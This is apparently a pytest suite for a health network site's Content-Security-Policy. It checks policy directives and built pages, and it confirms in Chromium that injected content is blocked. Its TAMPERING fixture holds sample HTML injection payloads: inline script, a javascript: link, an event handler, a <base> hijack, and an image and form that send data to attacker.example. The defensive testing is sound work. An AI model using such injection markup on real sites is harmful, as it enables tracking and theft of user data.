"""The pages' Content-Security-Policy (plugins/healthnet/csp.py): one meta tag first in
every head, the site's own files only, nothing inline anywhere, WebAssembly only where
Pagefind runs; and Chromium refusing what a tampered page adds."""

import re
import shutil
from pathlib import Path
from urllib.parse import urlparse

import pytest
from bs4 import BeautifulSoup

from healthnet import csp
from tests.conftest import serve

CSS = Path(__file__).resolve().parent.parent / "theme" / "static" / "css" / "site.css"
# A page that loads Pagefind says where from on its script tag.
LOADS_PAGEFIND = "script[data-pagefind]"
# The smallest WebAssembly module: its header.
COMPILE_WASM = """() => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))
    .then(() => "compiled", (error) => error.name)"""


def html_pages(site: Path):
    for path in sorted(site.rglob("*.html")):
        data = path.read_bytes()
        yield path.relative_to(site).as_posix(), data, BeautifulSoup(data, "html.parser")


def directives(policy: str) -> dict[str, list[str]]:
    return {name: values for name, *values in (d.split() for d in policy.split(";"))}


# -- the policy ---------------------------------------------------------------------------


def test_the_policy_allows_the_site_itself_and_nothing_inline():
    page = directives(csp.policy("page"))
    assert page["default-src"] == ["'none'"]
    assert page["base-uri"] == ["'none'"]
    assert page["form-action"] == ["'self'"]
    for name in ("script-src", "style-src", "img-src", "connect-src"):
        assert page[name] == ["'self'"], name
    # A <meta> policy ignores these, and Chromium complains of each.
    assert not {"frame-ancestors", "report-uri", "report-to", "sandbox"} & page.keys()
    search = directives(csp.policy("search"))
    assert search == {**page, "script-src": ["'self'", "'wasm-unsafe-eval'"]}
    for name in set(csp.POLICIES) - {"editor"}:  # the web editor: its own test below
        text = csp.policy(name)
        for loose in ("'unsafe-inline'", "'unsafe-eval'", "*", "data:", "http", '"', "<", "&"):
            assert loose not in text.replace("'wasm-unsafe-eval'", ""), (name, loose)


def test_the_editors_policy_loosens_only_what_decap_needs():
    editor = directives(csp.policy("editor"))
    page = directives(csp.policy("page"))
    assert editor["script-src"] == ["'self'", "'unsafe-eval'"]  # never 'unsafe-inline'
    assert editor["style-src"] == ["'self'", "'unsafe-inline'"]
    assert editor["default-src"] == page["default-src"] and editor["base-uri"] == ["'none'"]
    assert editor["form-action"] == ["'self'"]
    assert not any(c in csp.policy("editor") for c in '"<&')


def test_a_page_naming_an_unknown_policy_fails_its_build():
    with pytest.raises(ValueError, match="no Content-Security-Policy named 'admn'"):
        csp.policy("admn")


# -- every built page ---------------------------------------------------------------------


def test_every_page_carries_one_policy_first_in_its_head(built_site):
    searching = []
    for name, data, soup in html_pages(built_site):
        metas = soup.find_all("meta", attrs={"http-equiv": re.compile("^content-security-policy$", re.I)})  # fmt: skip
        assert len(metas) == 1, name
        first, second = soup.head.find_all(recursive=False)[:2]
        assert first.name == "meta" and first.get("charset") == "utf-8", name
        assert data.index(b"<meta charset") < 1024, name
        assert second is metas[0], f"{name}: the policy must come before anything that loads"
        loads_pagefind = soup.select_one(LOADS_PAGEFIND) is not None
        expected = csp.policy("search" if loads_pagefind else "page")
        if name == "admin/index.html":  # the web editor (tests/test_editor.py)
            expected = csp.policy("editor")
        assert metas[0]["content"] == expected, name
        assert ("'wasm-unsafe-eval'" in metas[0]["content"]) == loads_pagefind, name
        if loads_pagefind:
            searching.append(name)
    assert {"search/index.html", "members/index.html", "resources/index.html"} <= set(searching)
    assert len(searching) < 10, searching


def test_no_page_has_inline_script_style_or_event_handler(built_site):
    found = []
    for name, _, soup in html_pages(built_site):
        for element in soup.find_all(True):
            # JSON-LD is data the browser never runs (plugins/healthnet/structured.py).
            data = element.get("type") == "application/ld+json" and not element.get("src")
            if element.name == "script" and not element.get("src") and not data:
                found.append(f"{name}: inline <script>")
            if element.name == "style":
                found.append(f"{name}: <style>")
            for attribute, value in element.attrs.items():
                if attribute == "style" or attribute.lower().startswith("on"):
                    found.append(f"{name}: <{element.name} {attribute}>")
                text = " ".join(value) if isinstance(value, list) else value
                if re.sub(r"[\s\x00-\x20]", "", text).lower().startswith("javascript:"):
                    found.append(f"{name}: <{element.name} {attribute}={text!r}>")
    assert found == []


def test_every_logo_size_the_pages_use_has_its_class(built_site):
    """Logo sizes are classes (partials/member_logo.html, search/render.js), not styles."""
    sizes = set()
    for _, data, _ in html_pages(built_site):
        sizes |= set(re.findall(rb'class="logo logo-(\d+)"', data))
    assert sizes
    css = CSS.read_text(encoding="utf-8")
    for size in {*sizes, b"56"}:  # 56: the live filter's cards
        assert f".logo-{size.decode()} {{ --logo-size: {size.decode()}px; }}" in css


# -- in Chromium --------------------------------------------------------------------------

TAMPERING = """
<base href="https://attacker.example/">
<script>window.ran = "inline script";</script>
<style>#styled { font-size: 99px; }</style>
<p id="styled" style="color: rgb(255, 0, 0)">styled</p>
<img id="tracker" src="https://attacker.example/pixel.png" alt="">
<a id="javascript-link" href="javascript:window.ran = 'javascript: URL'">link</a>
<button id="handler" type="button" onclick="window.ran = 'handler'">button</button>
<form id="exfiltrate" action="https://attacker.example/collect" method="post">
  <input name="secret" value="1"></form>
"""


@pytest.fixture(scope="module")
def tampered_url(built_site, tmp_path_factory):
    """The built site, and a profile with what a successful injection would add in its
    body: an inline script, style element and attribute, an image and a form to another
    host, a javascript: link, an event handler and a <base>."""
    site = tmp_path_factory.mktemp("tampered") / "site"
    shutil.copytree(built_site, site)
    profile = site / "members" / "alpha-health" / "index.html"
    html = profile.read_text(encoding="utf-8")
    tampered = re.sub(r"<body[^>]*>", lambda m: m.group() + TAMPERING, html, count=1)
    (profile.parent / "tampered.html").write_text(tampered, encoding="utf-8")
    yield from serve(site)


@pytest.mark.browser
def test_what_an_injection_adds_is_refused(page, tampered_url, csp_violations):
    # Chromium announces a request the policy then refuses: what counts is that none
    # reaches the network, where this route would catch it.
    sent_elsewhere, refused_requests = [], []
    page.route(
        lambda url: urlparse(url).hostname != "127.0.0.1",
        lambda route: (sent_elsewhere.append(route.request.url), route.abort()),
    )
    page.on(
        "requestfailed", lambda request: refused_requests.append((request.url, request.failure))
    )
    url = f"{tampered_url}/members/alpha-health/tampered.html"
    page.goto(url)
    page.click("#handler")
    page.click("#javascript-link")
    # As a script of the page would add one: refused all the same.
    page.evaluate("""() => {
        const script = document.createElement("script");
        script.textContent = "window.ran = 'added script'";
        document.body.append(script);
    }""")  # fmt: skip

    assert page.evaluate("window.ran") is None
    assert page.evaluate("document.baseURI") == url
    styled = page.locator("#styled")
    assert styled.evaluate("p => getComputedStyle(p).color") != "rgb(255, 0, 0)"
    assert styled.evaluate("p => getComputedStyle(p).fontSize") != "99px"
    assert page.locator("#tracker").evaluate("img => img.naturalWidth") == 0
    # The site's own files still load under the same policy.
    logo = page.locator(".profile-header .logo img")
    assert logo.evaluate("img => img.complete && img.naturalWidth > 0")
    # Last: a refused submission leaves the page waiting for a navigation that never comes.
    page.evaluate("document.getElementById('exfiltrate').requestSubmit()")
    page.wait_for_timeout(300)
    assert page.url == url
    assert sent_elsewhere == []
    assert ("https://attacker.example/pixel.png", "csp") in refused_requests

    refused = " ".join(v for v in csp_violations if not v.startswith("console:"))
    for directive in ("base-uri", "script-src-elem", "script-src-attr", "style-src-elem",
                      "style-src-attr", "img-src", "form-action"):  # fmt: skip
        assert f"{directive} refused" in refused, (directive, csp_violations)
    csp_violations.clear()  # expected, and checked


@pytest.mark.browser
def test_webassembly_compiles_only_on_the_pages_that_search(page, site_url, csp_violations):
    page.goto(f"{site_url}/members/alpha-health/")
    assert page.evaluate(COMPILE_WASM) == "CompileError"
    page.wait_for_timeout(100)
    assert csp_violations, "the refusal is reported"
    csp_violations.clear()  # expected, and checked
    for path in ("/search/", "/members/", "/resources/"):
        page.goto(f"{site_url}{path}")
        assert page.evaluate(COMPILE_WASM) == "compiled", path
